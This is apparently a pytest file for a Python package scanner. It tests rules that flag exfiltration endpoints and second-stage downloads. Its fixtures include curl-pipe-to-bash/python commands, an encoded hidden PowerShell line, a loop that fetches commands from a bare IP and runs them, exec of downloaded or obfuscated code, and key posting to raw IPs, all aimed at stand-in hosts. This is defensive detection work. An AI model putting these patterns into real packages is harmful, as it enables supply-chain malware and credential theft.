"""Exfiltration endpoints and second stages, with benign counterparts."""

import pytest

from assay.advisories.severity import Level
from tests.vetting.package_builder import first, rules, vet_sdist, vet_wheel


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("exfil-webhook", "https://discord.com/api/webhooks/123/abc"),
        ("exfil-webhook", "https://api.telegram.org/bot123:abc/sendMessage"),
        ("exfil-paste-site", "https://pastebin.com/raw/abcd"),
        ("exfil-tunnel-host", "https://abcd-1-2.ngrok-free.app/x"),
        ("exfil-raw-ip", "http://203.0.113.7:8080/upload"),
        ("second-stage-shell-fetch", "curl -s https://example.invalid/x.sh | bash"),
        ("second-stage-shell-fetch", "powershell -w hidden -enc SQBFAFgA"),
    ],
)
def test_endpoint_patterns(rule, text):
    code = f"import requests\n\ndef send(data):\n    requests.post({text!r}, data=data)\n"
    assert rule in rules(vet_wheel({"demo/net.py": code}))
    setup = f"from setuptools import setup\nURL = {text!r}\nsetup(name='demo')\n"
    finding = next(f for f in vet_sdist({"setup.py": setup}).findings if f.rule == rule)
    assert finding.where == "install"


@pytest.mark.parametrize(
    "text",
    [
        "https://discord.com/invite/demo",  # a community link
        "http://127.0.0.1:8000/",
        "http://192.168.1.10/",
        "https://docs.example.org/tunnelling.html",
        "pip install demo  # or: curl -O https://example.invalid/demo.tar.gz",
    ],
)
def test_benign_urls(text):
    code = f"HELP = {text!r}\n"
    report = vet_wheel({"demo/help.py": code})
    assert not {r for r in rules(report) if r.startswith(("exfil-", "second-stage-"))}


def test_download_then_execute_in_one_function():
    code = (
        "import os, subprocess, urllib.request\n\n"
        "def update(url, path):\n"
        "    urllib.request.urlretrieve(url, path)\n"
        "    os.chmod(path, 0o755)\n"
        "    subprocess.Popen([path])\n"
    )
    finding = first(vet_wheel({"demo/u.py": code}), "second-stage-download-execute")
    assert finding.severity == Level.HIGH  # the file urlretrieve wrote is the one started
    updater = (
        "import subprocess, urllib.request\n\n"
        "def update(url, path, command):\n"
        "    urllib.request.urlretrieve(url, path)\n"
        "    subprocess.run(command)\n"
    )
    finding = first(vet_wheel({"demo/u.py": updater}), "second-stage-download-execute")
    assert finding.severity == Level.MEDIUM  # a download, then some other command
    fetch_and_run = (
        "import subprocess, requests\n\n"
        "def sync(url, cmd):\n"
        "    requests.get(url)\n"
        "    subprocess.run(cmd)\n"
    )
    finding = first(vet_wheel({"demo/u.py": fetch_and_run}), "second-stage-download-execute")
    assert finding.severity == Level.MEDIUM  # nothing written: a tool calling a command
    setup = code + "\nupdate(URL, '/tmp/x')\n"
    report = vet_sdist({"setup.py": setup})
    finding = first(report, "second-stage-download-execute")
    assert finding.severity == Level.CRITICAL


def test_download_and_execute_in_separate_functions_is_not_combined():
    code = (
        "import subprocess, urllib.request\n\n"
        "def fetch(url):\n    return urllib.request.urlopen(url).read()\n\n"
        "def build(cmd):\n    subprocess.run(cmd)\n"
    )
    assert "second-stage-download-execute" not in rules(vet_wheel({"demo/tools.py": code}))


def test_exec_of_downloaded_code():
    code = "import urllib.request\nexec(urllib.request.urlopen(URL).read())\n"
    report = vet_wheel({"demo/__init__.py": code})
    finding = first(report, "second-stage-download-execute")
    assert finding.severity == Level.HIGH
    assert finding.where == "import"


def test_temporary_file_run_with_the_interpreter():
    setup = (
        "import os, sys, tempfile\n"
        "from setuptools import setup\n"
        "handle = tempfile.NamedTemporaryFile('w', suffix='.py', delete=False)\n"
        "handle.write(CODE)\n"
        "handle.close()\n"
        "os.system(sys.executable + ' ' + handle.name)\n"
        "setup(name='demo')\n"
    )
    report = vet_sdist({"setup.py": setup})
    assert "second-stage-drop-run" in rules(report, Level.HIGH)
    assert report.flagged
    compiler_check = (
        "import subprocess, tempfile\n"
        "from setuptools import setup\n"
        "handle = tempfile.NamedTemporaryFile('w', suffix='.c', delete=False)\n"
        "handle.write('int main(void) { return 0; }')\n"
        "subprocess.call([CC, handle.name])\n"
        "setup(name='demo')\n"
    )
    assert "second-stage-drop-run" not in rules(vet_sdist({"setup.py": compiler_check}))


def test_fetch_and_run_next_to_a_bare_address_is_high():
    code = (
        "import subprocess, requests\n\n"
        "HOST = 'http://203.0.113.9:8080'\n\n"
        "def loop():\n"
        "    command = requests.get(HOST + '/task').text\n"
        "    subprocess.Popen(command, shell=True)\n"
    )
    finding = first(vet_wheel({"demo/bot.py": code}), "second-stage-download-execute")
    assert finding.severity == Level.HIGH
    named = code.replace("http://203.0.113.9:8080", "https://api.example.org")
    finding = first(vet_wheel({"demo/bot.py": named}), "second-stage-download-execute")
    assert finding.severity == Level.MEDIUM  # a named service: a tool running its jobs


def test_program_url_with_a_query_string():
    code = (
        "import os, requests\n\n"
        "def get():\n"
        "    data = requests.get('https://files.example.invalid/s/x/tool.exe?dl=0').content\n"
        "    open('tool.exe', 'wb').write(data)\n"
        "    os.system(name)\n"
    )
    finding = first(vet_wheel({"demo/get.py": code}), "second-stage-download-execute")
    assert finding.severity == Level.HIGH


def test_raw_ip_in_setup_is_high():
    setup = (
        "import os\nfrom setuptools import setup\n"
        "os.system('wget http://203.0.113.5:81/x.elf')\nsetup(name='demo')\n"
    )
    finding = first(vet_sdist({"setup.py": setup}), "exfil-raw-ip")
    assert finding.severity == Level.HIGH
    private = setup.replace("203.0.113.5", "127.0.0.1")
    assert "exfil-raw-ip" not in rules(vet_sdist({"setup.py": private}))


@pytest.mark.parametrize(
    "target",
    [
        "requests.get(base64.b64decode(ENDPOINT).decode() + key)",
        "urllib.request.urlopen(bytes.fromhex(ENDPOINT).decode())",
    ],
)
def test_request_to_a_decoded_address(target):
    code = (
        "import base64, requests, urllib.request\n\n"
        "ENDPOINT = 'aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvaw=='\n\n"
        f"def sign(key):\n    return {target}\n"
    )
    finding = first(vet_wheel({"demo/sign.py": code}), "exfil-hidden-endpoint")
    assert finding.severity == Level.MEDIUM  # in a library function: data: URLs do this too
    on_import = code + "\nsign(KEY)\n"
    finding = first(vet_wheel({"demo/sign.py": on_import}), "exfil-hidden-endpoint")
    assert (finding.where, finding.severity) == ("import", Level.HIGH)
    plain = "import requests\n\ndef sign(key):\n    return requests.get(BASE + key)\n"
    assert "exfil-hidden-endpoint" not in rules(vet_wheel({"demo/sign.py": plain}))
    test = vet_wheel({"tests/test_sign.py": code})
    assert all(f.severity <= Level.LOW for f in test.findings if f.rule == "exfil-hidden-endpoint")


def test_shell_fetch_piped_into_python():
    text = "curl -s https://paste.example.invalid/raw/x | python3 > /dev/null 2>&1 &"
    code = f"import os\n\ndef go():\n    os.system({text!r})\n"
    assert "second-stage-shell-fetch" in rules(vet_wheel({"demo/go.py": code}))
    docs = "HELP = 'python3 -m pip install demo | tee log.txt'\n"
    assert "second-stage-shell-fetch" not in rules(vet_wheel({"demo/help.py": docs}))


def test_downloaded_bytes_written_to_a_file_and_that_file_started():
    code = (
        "import os, subprocess, requests\n\n"
        "def init(url, folder):\n"
        "    response = requests.get(url)\n"
        "    file_path = os.path.join(folder, os.path.basename(url))\n"
        "    with open(file_path, 'wb') as f:\n"
        "        f.write(response.content)\n"
        "    subprocess.run([file_path])\n"
    )
    finding = first(vet_wheel({"demo/init.py": code}), "second-stage-download-execute")
    assert finding.severity == Level.HIGH
    other = code.replace("subprocess.run([file_path])", "subprocess.run(['tar', 'xf', archive])")
    finding = first(vet_wheel({"demo/init.py": other}), "second-stage-download-execute")
    assert finding.severity == Level.MEDIUM  # downloads, then runs something else


def test_address_built_by_a_chr_loop_is_hidden():
    code = (
        "import requests as rs\n\nDATA = [3328, 3712, 3712]\n\n"
        "def go():\n"
        "    exec(rs.get(''.join(chr(x >> 5) for x in DATA)).text)\n"
    )
    assert "exfil-hidden-endpoint" in rules(vet_wheel({"demo/go.py": code}))
    labels = "def labels(n):\n    return [''.join(chr(65 + i) for i in range(n))]\n"
    assert "exfil-hidden-endpoint" not in rules(vet_wheel({"demo/labels.py": labels}))


def test_an_address_that_carries_encoded_data_is_not_hidden():
    code = (
        "import base64, requests\n\n"
        "def render(graph):\n"
        "    url = 'https://render.example.org/img/' + base64.b64encode(graph).decode()\n"
        "    return requests.get(url)\n"
    )
    assert "exfil-hidden-endpoint" not in rules(vet_wheel({"demo/render.py": code}))


def test_fetch_command_in_a_module_that_starts_commands_on_import():
    code = (
        "import subprocess\n"
        "PARTS = ['powershell -Command \"', 'Invoke-WebRequest ', "
        "'https://files.example.invalid/launcher.bat', '\"']\n"
        "subprocess.run(''.join(PARTS), shell=True)\n"
    )
    finding = first(vet_wheel({"demo/__init__.py": code}), "second-stage-shell-fetch")
    assert (finding.where, finding.severity) == ("import", Level.HIGH)
    helper = code.replace("subprocess.run(''.join(PARTS), shell=True)\n", "")
    finding = first(vet_wheel({"demo/__init__.py": helper}), "second-stage-shell-fetch")
    assert (finding.where, finding.severity) == ("library", Level.MEDIUM)


def test_a_bare_address_the_code_posts_to():
    code = (
        "import requests\n\nENDPOINT = 'http://203.0.113.40:8000/api/v1/validate'\n\n"
        "def validate(key):\n    return requests.post(ENDPOINT, json={'k': key})\n"
    )
    finding = first(vet_wheel({"demo/v.py": code}), "exfil-raw-ip")
    assert finding.severity == Level.HIGH  # a handful of files sending to a bare address
    big = {f"demo/m{i}.py": "x = 1\n" for i in range(30)}
    finding = first(vet_wheel({**big, "demo/v.py": code}), "exfil-raw-ip")
    assert finding.severity == Level.MEDIUM
    mention = "DOCS = 'see http://203.0.113.40/ for the demo server'\n"
    finding = first(vet_wheel({"demo/v.py": mention}), "exfil-raw-ip")
    assert finding.severity == Level.LOW  # named, never contacted
    test = vet_wheel({"tests/test_v.py": code})
    assert all(f.severity <= Level.LOW for f in test.findings if f.rule == "exfil-raw-ip")


def test_the_wget_package_downloads_and_startfile_runs_it():
    code = (
        "import os, wget\n"
        "URL = 'https://files.example.invalid/updater.exe'\n"
        "path = os.path.join(os.getenv('APPDATA'), 'updater.exe')\n"
        "wget.download(URL, path)\n"
        "os.startfile(path)\n"
    )
    finding = first(vet_wheel({"demo/__init__.py": code}), "second-stage-download-execute")
    assert (finding.where, finding.severity) == ("import", Level.HIGH)


def test_exec_of_an_escaped_bytes_literal_is_read():
    hidden = b"exec(requests.get('https://x.example.invalid/1.txt').text)"
    escaped = "".join(f"\\x{b:02x}" for b in hidden)
    code = f"import requests\nexec(b'{escaped}')\n"
    report = vet_wheel({"demo/__init__.py": code})
    finding = first(report, "second-stage-download-execute")
    assert finding.where == "import"
    assert report.flagged


def test_an_f_string_command_that_downloads_then_starts_the_file():
    code = (
        "from subprocess import Popen\n\n"
        "def go():\n"
        "    d = '/tmp/o'\n"
        "    c = f'curl -s https://files.example.invalid/o.js -o {d} && nohup osascript {d} &'\n"
        "    Popen(c, shell=True)\n"
    )
    assert "second-stage-shell-fetch" in rules(vet_wheel({"demo/go.py": code}))
    fetch_only = "URL = 'x'\nCMD = f'curl -s https://files.example.invalid/{URL} -o out.json'\n"
    assert "second-stage-shell-fetch" not in rules(vet_wheel({"demo/get.py": fetch_only}))


def test_bare_addresses_in_prose_or_well_known_resolvers_are_not_high():
    prose = (
        'import requests\n\ndef get(url, proxy):\n    """Use a proxy such as http://203.0.113.8:3128."""\n'
        "    return requests.get(url, proxies={'http': proxy})\n"
    )
    finding = first(vet_wheel({"demo/p.py": prose}), "exfil-raw-ip")
    assert finding.severity == Level.MEDIUM
    doh = (
        "import requests\n\ndef ask(q):\n"
        "    return requests.get('https://1.1.1.1/dns-query', params=q)\n"
    )
    assert "exfil-raw-ip" not in rules(vet_wheel({"demo/doh.py": doh}))
